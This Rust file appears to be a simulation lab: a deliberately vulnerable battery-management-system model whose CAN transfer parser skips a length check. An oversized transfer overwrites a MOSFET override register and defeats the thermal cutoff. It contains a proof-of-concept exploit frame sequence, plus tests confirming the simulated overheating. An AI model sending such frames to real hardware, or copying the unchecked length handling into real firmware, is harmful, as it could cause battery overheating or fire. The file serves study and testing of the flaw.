//! A deliberately vulnerable battery-management-system model driven over
//! injected CAN frames.
//!
//! The firmware model reassembles multi-frame transfers addressed to id
//! 0x7E0 into an 8-byte staging buffer and — faithfully to the class of bug
//! it reproduces — does not bounds-check the declared transfer length. The
//! modeled memory map places the MOSFET override register directly after
//! the staging buffer, so the 9th byte of an oversized transfer lands in
//! the control register. A nonzero override forces the charging MOSFET on
//! and defeats the 40 degC thermal cutoff.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;
use thiserror::Error;

/// CAN id the BMS charging controller listens on.
pub const BMS_RX_ID: u16 = 0x7E0;
/// First byte of a transfer-opening frame.
pub const FIRST_FRAME_MARKER: u8 = 0x10;
/// Consecutive frames carry 0x21..=0x2F and must arrive in order.
pub const CONSECUTIVE_BASE: u8 = 0x21;
pub const CONSECUTIVE_MAX: u8 = 0x2F;

/// Thermal cutoff: the uncompromised firmware opens the charging MOSFET
/// once the battery exceeds this temperature.
pub const CUTOFF_TEMP_C: f64 = 40.0;

const STAGING_BYTES: usize = 8;

#[derive(Debug, Error, PartialEq)]
pub enum CanError {
    #[error("CAN id {0:#x} does not fit in 11 bits")]
    IdTooWide(u16),
    #[error("payload of {0} bytes exceeds the 8-byte CAN limit")]
    PayloadTooLong(usize),
    #[error("malformed frame string {0:?} (expected ID#HEXDATA)")]
    BadFrameString(String),
}

/// A classic (11-bit id) CAN data frame.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CanFrame {
    pub id: u16,
    pub payload: Vec<u8>,
}

impl CanFrame {
    pub fn new(id: u16, payload: Vec<u8>) -> Result<Self, CanError> {
        if id >> 11 != 0 {
            return Err(CanError::IdTooWide(id));
        }
        if payload.len() > 8 {
            return Err(CanError::PayloadTooLong(payload.len()));
        }
        Ok(CanFrame { id, payload })
    }

    pub fn dlc(&self) -> usize {
        self.payload.len()
    }
}

// Frames read and write in candump-style `ID#HEXDATA` notation, which is
// also how payload sequences are stored in scenario JSON.
impl fmt::Display for CanFrame {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:03X}#{}", self.id, hex::encode_upper(&self.payload))
    }
}

impl FromStr for CanFrame {
    type Err = CanError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let (id_str, data_str) = s
            .split_once('#')
            .ok_or_else(|| CanError::BadFrameString(s.to_string()))?;
        let id =
            u16::from_str_radix(id_str, 16).map_err(|_| CanError::BadFrameString(s.to_string()))?;
        let payload = hex::decode(data_str).map_err(|_| CanError::BadFrameString(s.to_string()))?;
        CanFrame::new(id, payload)
    }
}

impl Serialize for CanFrame {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&self.to_string())
    }
}

impl<'de> Deserialize<'de> for CanFrame {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let s = String::deserialize(d)?;
        s.parse().map_err(serde::de::Error::custom)
    }
}

/// First-order thermal model: heating proportional to charging current
/// while the MOSFET conducts, Newton cooling toward ambient. Equilibrium
/// under sustained current is `ambient + alpha * amps / beta`.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct ThermalParams {
    /// degC per ampere-second of conducted charging current.
    pub alpha: f64,
    /// Cooling coefficient per second.
    pub beta: f64,
    pub ambient_c: f64,
}

impl Default for ThermalParams {
    fn default() -> Self {
        // Calibrated so a sustained 51 A with the cutoff defeated settles
        // at 56.47 degC: alpha = beta * (56.47 - 25) / 51.
        let beta = 0.01;
        let ambient_c = 25.0;
        ThermalParams {
            alpha: beta * (56.47 - ambient_c) / 51.0,
            beta,
            ambient_c,
        }
    }
}

impl ThermalParams {
    pub fn equilibrium_c(&self, amps: f64) -> f64 {
        self.ambient_c + self.alpha * amps / self.beta
    }
}

/// Modeled firmware RAM of the BMS charging controller.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct BmsState {
    pub temp_c: f64,
    pub ambient_c: f64,
    pub mosfet_on: bool,
    /// Reassembly buffer for multi-frame transfers.
    pub staging: [u8; STAGING_BYTES],
    pub declared_len: u8,
    pub received_len: u8,
    /// Lives directly after `staging` in the modeled memory map. Nonzero
    /// if and only if an out-of-bounds write has occurred; the MOSFET
    /// driver reads it as a forced-on flag.
    pub mosfet_override: u8,
    transfer_open: bool,
    next_seq: u8,
}

impl BmsState {
    pub fn new(ambient_c: f64) -> Self {
        BmsState {
            temp_c: ambient_c,
            ambient_c,
            mosfet_on: true,
            staging: [0; STAGING_BYTES],
            declared_len: 0,
            received_len: 0,
            mosfet_override: 0,
            transfer_open: false,
            next_seq: CONSECUTIVE_BASE,
        }
    }

    pub fn compromised(&self) -> bool {
        self.mosfet_override != 0
    }

    /// Writes one transfer byte at the modeled memory offset. Offsets 0..8
    /// land in the staging buffer; offset 8 is the adjacent override
    /// register; anything past that falls off the modeled map.
    fn store(&mut self, offset: usize, byte: u8) {
        if offset < STAGING_BYTES {
            self.staging[offset] = byte;
        } else if offset == STAGING_BYTES {
            self.mosfet_override = byte;
        }
    }

    fn append(&mut self, data: &[u8]) {
        for &byte in data {
            if self.received_len >= self.declared_len {
                break;
            }
            self.store(usize::from(self.received_len), byte);
            self.received_len += 1;
        }
        if self.received_len >= self.declared_len {
            self.transfer_open = false;
        }
    }

    /// Feeds one CAN frame through the (vulnerable) transfer parser.
    ///
    /// Frames with other ids are ignored as unrelated bus traffic. A first
    /// frame (`0x10 len d0..`) opens a transfer; consecutive frames
    /// (`0x21.., 0x22..`) append in strict sequence order, and any gap or
    /// reordering aborts the transfer. Appends past the 8-byte staging
    /// buffer are exactly the modeled overflow.
    pub fn feed(&mut self, frame: &CanFrame) {
        if frame.id != BMS_RX_ID || frame.payload.is_empty() {
            return;
        }
        match frame.payload[0] {
            FIRST_FRAME_MARKER => {
                if frame.payload.len() < 2 {
                    return;
                }
                self.declared_len = frame.payload[1];
                self.received_len = 0;
                self.staging = [0; STAGING_BYTES];
                self.transfer_open = true;
                self.next_seq = CONSECUTIVE_BASE;
                self.append(&frame.payload[2..]);
            }
            seq @ CONSECUTIVE_BASE..=CONSECUTIVE_MAX => {
                if !self.transfer_open {
                    return;
                }
                if seq != self.next_seq {
                    // Out-of-order continuation: drop the whole transfer.
                    self.transfer_open = false;
                    self.received_len = 0;
                    return;
                }
                self.next_seq = if seq == CONSECUTIVE_MAX {
                    CONSECUTIVE_BASE
                } else {
                    seq + 1
                };
                self.append(&frame.payload[1..]);
            }
            _ => {}
        }
    }

    /// Advances the thermal model by `dt_s` seconds of charging at
    /// `charging_amps`, then applies the cutoff rule: past 40 degC the
    /// MOSFET opens and stays open — unless the override register has been
    /// overwritten, which forces it on regardless of temperature.
    pub fn tick(&mut self, charging_amps: f64, dt_s: f64, params: &ThermalParams) {
        let conducted = if self.mosfet_on { charging_amps } else { 0.0 };
        self.temp_c +=
            (params.alpha * conducted - params.beta * (self.temp_c - params.ambient_c)) * dt_s;
        if self.mosfet_override != 0 {
            self.mosfet_on = true;
        } else if self.temp_c > CUTOFF_TEMP_C {
            self.mosfet_on = false;
        }
    }
}

/// The proof-of-concept exploit: declare a 12-byte transfer, then deliver
/// bytes whose 9th lands in the override register.
pub fn overheat_exploit_frames() -> Vec<CanFrame> {
    vec![
        CanFrame::new(BMS_RX_ID, vec![FIRST_FRAME_MARKER, 12, 0, 0, 0, 0, 0, 0]).unwrap(),
        CanFrame::new(BMS_RX_ID, vec![0x21, 0, 0, 0x5A, 0, 0, 0, 0]).unwrap(),
    ]
}

/// An in-bounds 4-byte status write; completes harmlessly.
pub fn benign_status_frames() -> Vec<CanFrame> {
    vec![CanFrame::new(
        BMS_RX_ID,
        vec![FIRST_FRAME_MARKER, 4, 0xDE, 0xAD, 0xBE, 0xEF],
    )
    .unwrap()]
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::{Rng, SeedableRng};
    use rand_chacha::ChaCha8Rng;

    #[test]
    fn in_bounds_transfer_completes_harmlessly() {
        let mut bms = BmsState::new(25.0);
        for frame in benign_status_frames() {
            bms.feed(&frame);
        }
        assert_eq!(&bms.staging[..4], &[0xDE, 0xAD, 0xBE, 0xEF]);
        assert_eq!(bms.mosfet_override, 0);
    }

    #[test]
    fn oversized_transfer_overwrites_the_override_register() {
        let mut bms = BmsState::new(25.0);
        for frame in overheat_exploit_frames() {
            bms.feed(&frame);
        }
        assert_eq!(bms.mosfet_override, 0x5A);
        assert!(bms.compromised());
    }

    #[test]
    fn unrelated_ids_are_ignored() {
        let mut bms = BmsState::new(25.0);
        let before = bms.clone();
        bms.feed(&CanFrame::new(0x123, vec![0x10, 12, 1, 2, 3, 4, 5, 6]).unwrap());
        assert_eq!(bms, before);
    }

    #[test]
    fn out_of_order_continuation_aborts() {
        let mut bms = BmsState::new(25.0);
        bms.feed(&CanFrame::new(BMS_RX_ID, vec![0x10, 16, 0, 0, 0, 0, 0, 0]).unwrap());
        // 0x22 arrives where 0x21 was expected.
        bms.feed(&CanFrame::new(BMS_RX_ID, vec![0x22, 1, 2, 0x5A, 4, 5, 6, 7]).unwrap());
        bms.feed(&CanFrame::new(BMS_RX_ID, vec![0x21, 1, 2, 0x5A, 4, 5, 6, 7]).unwrap());
        assert_eq!(bms.mosfet_override, 0);
    }

    #[test]
    fn exploit_frames_swapped_do_not_compromise() {
        let mut bms = BmsState::new(25.0);
        let frames = overheat_exploit_frames();
        bms.feed(&frames[1]);
        bms.feed(&frames[0]);
        assert_eq!(bms.mosfet_override, 0);
    }

    #[test]
    fn in_bounds_fuzzing_never_reaches_the_override() {
        let mut rng = ChaCha8Rng::seed_from_u64(0xB1235);
        for _ in 0..10_000 {
            let mut bms = BmsState::new(25.0);
            for _ in 0..rng.gen_range(1..8) {
                let first: u8 = if rng.gen_bool(0.5) {
                    FIRST_FRAME_MARKER
                } else {
                    rng.gen_range(CONSECUTIVE_BASE..=CONSECUTIVE_MAX)
                };
                let mut payload = vec![first];
                if first == FIRST_FRAME_MARKER {
                    payload.push(rng.gen_range(0..=8)); // declared_len <= 8
                }
                let data_len = rng.gen_range(0..=(8 - payload.len()));
                for _ in 0..data_len {
                    payload.push(rng.gen());
                }
                bms.feed(&CanFrame::new(BMS_RX_ID, payload).unwrap());
            }
            assert_eq!(bms.mosfet_override, 0);
        }
    }

    #[test]
    fn uncompromised_run_respects_the_cutoff() {
        let params = ThermalParams::default();
        let mut bms = BmsState::new(params.ambient_c);
        let dt = 1.0;
        let mut max_temp = bms.temp_c;
        for _ in 0..7200 {
            bms.tick(51.0, dt, &params);
            max_temp = max_temp.max(bms.temp_c);
        }
        assert!(max_temp <= CUTOFF_TEMP_C + params.alpha * 51.0 * dt);
        assert!(!bms.mosfet_on);
        // After the cutoff the temperature decays back toward ambient.
        assert!(bms.temp_c < 26.0);
    }

    #[test]
    fn compromised_run_settles_at_the_calibrated_equilibrium() {
        let params = ThermalParams::default();
        let mut bms = BmsState::new(params.ambient_c);
        for frame in overheat_exploit_frames() {
            bms.feed(&frame);
        }
        let mut crossed_at = None;
        let mut prev = bms.temp_c;
        for step in 0..7200 {
            bms.tick(51.0, 1.0, &params);
            if crossed_at.is_none() && bms.temp_c > CUTOFF_TEMP_C {
                crossed_at = Some(step);
            }
            // Monotone approach once past the cutoff.
            if crossed_at.is_some() {
                assert!(bms.temp_c >= prev - 1e-12);
            }
            prev = bms.temp_c;
        }
        assert!(crossed_at.is_some());
        assert!(bms.mosfet_on);
        assert!(
            (bms.temp_c - 56.47).abs() <= 0.5,
            "settled at {}",
            bms.temp_c
        );
    }

    #[test]
    fn zero_current_decays_monotonically_to_ambient() {
        let params = ThermalParams::default();
        let mut bms = BmsState::new(params.ambient_c);
        bms.temp_c = 55.0;
        let mut prev = bms.temp_c;
        for _ in 0..3600 {
            bms.tick(0.0, 1.0, &params);
            assert!(bms.temp_c <= prev);
            assert!(bms.temp_c >= params.ambient_c - 1e-9);
            prev = bms.temp_c;
        }
        assert!((bms.temp_c - params.ambient_c).abs() < 0.01);
    }

    #[test]
    fn can_frame_string_round_trip() {
        let frame = CanFrame::new(0x7E0, vec![0x10, 12, 0, 0, 0, 0, 0, 0]).unwrap();
        let s = frame.to_string();
        assert_eq!(s, "7E0#100C000000000000");
        assert_eq!(s.parse::<CanFrame>().unwrap(), frame);
        assert!("garbage".parse::<CanFrame>().is_err());
        assert!(CanFrame::new(0x800, vec![]).is_err());
        assert!(CanFrame::new(0x7E0, vec![0; 9]).is_err());
    }
}
